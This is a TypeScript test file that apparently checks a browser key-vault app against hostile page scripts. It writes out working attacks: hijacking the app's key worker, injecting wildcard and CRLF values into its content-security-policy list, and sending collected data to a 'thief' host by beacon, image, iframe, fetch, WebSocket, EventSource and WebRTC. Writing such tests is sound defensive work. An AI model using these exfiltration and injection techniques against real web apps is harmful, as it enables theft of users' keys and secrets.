import type { Attack } from './attacks.ts';

/** Attacks with workers, policies and the network; each stands alone as well. */
export const networkAttacks: readonly Attack[] = [
	{
		name: 'start a key worker of its own that may reach the attacker, over the true rows, and open it',
		mayHit: true,
		run: async ({ good, thief }) => {
			const [address] = window.hostile.seen.filter((text) => String(text).includes('keys.worker'));
			const url = new URL(String(address));
			url.searchParams.set('connect', thief);
			const worker = new Worker(url, { type: 'module', name: 'me' });
			worker.addEventListener('message', ({ data }: MessageEvent<{ m?: string; i: string }>) => {
				if (data.m !== 'readVault') return;
				void window.hostile.readVault().then((vault) => worker.postMessage({ t: 's', i: data.i, r: vault }));
			});
			const got = [
				await window.hostile.ask(worker, 'status'),
				await window.hostile.ask(worker, 'unlock', { type: 'passphrase', passphrase: '' }),
				await window.hostile.ask(worker, 'unlock', { type: 'passphrase', passphrase: 'password1' }),
				await window.hostile.ask(worker, 'unlock', { type: 'passkey', output: new Uint8Array(32) }),
				await window.hostile.ask(worker, 'models', good),
				await window.hostile.ask(worker, 'listKeys'),
				// It does reach the attacker, with a key of the attacker: the policy is not what keeps the true one in.
				await window.hostile.ask(worker, 'setKey', {
					provider: `endpoint:${thief}`,
					origin: thief,
					key: 'bait-bait',
					persist: false,
				}),
				await window.hostile.ask(worker, 'models', `endpoint:${thief}`),
			];
			worker.terminate();
			return got;
		},
	},
	{
		name: 'widen the policy of a key worker by what it writes into its list',
		run: async ({ thief }) => {
			const [address] = window.hostile.seen.filter((text) => String(text).includes('keys.worker'));
			const got: unknown[] = [];
			for (const list of ['*', `https:, ${thief}`, `${thief}; connect-src *`, `${thief}\r\nX-Evil: 1`, '']) {
				const url = new URL(String(address));
				url.searchParams.set('connect', list);
				const answer = await fetch(url);
				got.push(answer.headers.get('content-security-policy'));
				if (!answer.headers.get('content-security-policy')?.endsWith("connect-src 'none'"))
					await fetch(`${thief}/policy-was-widened`, { mode: 'no-cors' });
			}
			return got;
		},
	},
	{
		name: 'import the worker script into the page, or run it as a shared worker',
		run: async () => {
			const [address] = window.hostile.seen.filter((text) => String(text).includes('keys.worker'));
			const imported: unknown = await import(String(address)).catch(String);
			const shared = new SharedWorker(String(address), { type: 'module', name: 'me' });
			const answer = new Promise((resolve) => {
				shared.port.onmessage = (event) => resolve(event.data);
				shared.onerror = () => resolve('refused');
				setTimeout(() => resolve('silence'), 1_500);
			});
			shared.port.start();
			shared.port.postMessage({ t: 'q', m: 'listKeys', a: [], i: 'z' });
			return [imported, await answer];
		},
	},
	{
		name: 'run a worker of its own code, from a blob or from data',
		run: async ({ thief }) => {
			const code = `fetch(${JSON.stringify(thief)}); postMessage('ran')`;
			const start = (url: string) =>
				new Promise((resolve) => {
					try {
						const worker = new Worker(url);
						worker.onmessage = (event) => resolve(event.data);
						worker.onerror = () => resolve('refused');
					} catch {
						resolve('refused');
					}
					setTimeout(() => resolve('silence'), 1_500);
				});
			return [
				await start(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))),
				await start(`data:text/javascript,${encodeURIComponent(code)}`),
			];
		},
	},
	{
		name: 'send what it found by fetch, beacon, image, form, socket, event stream and frame',
		run: async ({ thief }) => {
			const loot = encodeURIComponent(window.hostile.dump(window.hostile.seen).slice(0, 500));
			navigator.sendBeacon(`${thief}/beacon?${loot}`);
			new Image().src = `${thief}/image?${loot}`;
			const frame = document.createElement('iframe');
			frame.src = `${thief}/frame?${loot}`;
			document.body.append(frame);
			const style = document.createElement('link');
			Object.assign(style, { rel: 'stylesheet', href: `${thief}/style?${loot}` });
			document.head.append(style);
			const tried = [
				await fetch(`${thief}/fetch?${loot}`, { mode: 'no-cors' }).catch(String),
				await new Promise((resolve) => {
					const socket = new WebSocket(thief.replace('http', 'ws'));
					socket.onerror = () => resolve('refused');
					socket.onopen = () => resolve('open');
				}),
				await new Promise((resolve) => {
					const source = new EventSource(`${thief}/events?${loot}`);
					source.onerror = () => {
						source.close();
						resolve('refused');
					};
				}),
			];
			frame.remove();
			style.remove();
			return tried.map(String);
		},
	},
	{
		name: 'send what it found by WebRTC',
		mayHit: true,
		run: async ({ thief }) => {
			const { hostname, port } = new URL(thief);
			const loot = window.hostile.dump(window.hostile.seen).slice(0, 200);
			const urls = [`turn:${hostname}:${port}?transport=tcp`];
			const peer = new RTCPeerConnection({
				iceServers: [{ urls, username: loot.slice(0, 100), credential: 'x' }],
			});
			peer.createDataChannel('loot');
			await peer.setLocalDescription(await peer.createOffer());
			await new Promise((resolve) => setTimeout(resolve, 800));
			const description = peer.localDescription?.sdp;
			peer.close();
			return description;
		},
	},
	{
		name: 'ask the service worker, and put another in its place',
		run: async () => {
			const got: unknown[] = [];
			navigator.serviceWorker.addEventListener('message', (event) => got.push(event.data));
			for (const type of ['SKIP_WAITING', 'getKey', 'keys', 'connect', 'vault'])
				navigator.serviceWorker.controller?.postMessage({ type, connect: '*' });
			const [address] = window.hostile.seen.filter((text) => String(text).includes('keys.worker'));
			for (const url of [String(address), URL.createObjectURL(new Blob(['']))])
				got.push(await navigator.serviceWorker.register(url, { scope: '/' }).then(() => 'replaced', String));
			return got;
		},
	},
	{
		name: 'listen to broadcasts while the vault is locked by a forged one, and read its state',
		run: async () => {
			const channel = new BroadcastChannel('aether-vault-me');
			const got: unknown[] = [];
			channel.onmessage = (event) => got.push(event.data);
			channel.postMessage({ type: 'unlock' });
			await new Promise((resolve) => setTimeout(resolve, 300));
			got.push(await window.hostile.ask(window.hostile.keyWorker(), 'status'));
			return got;
		},
	},
];
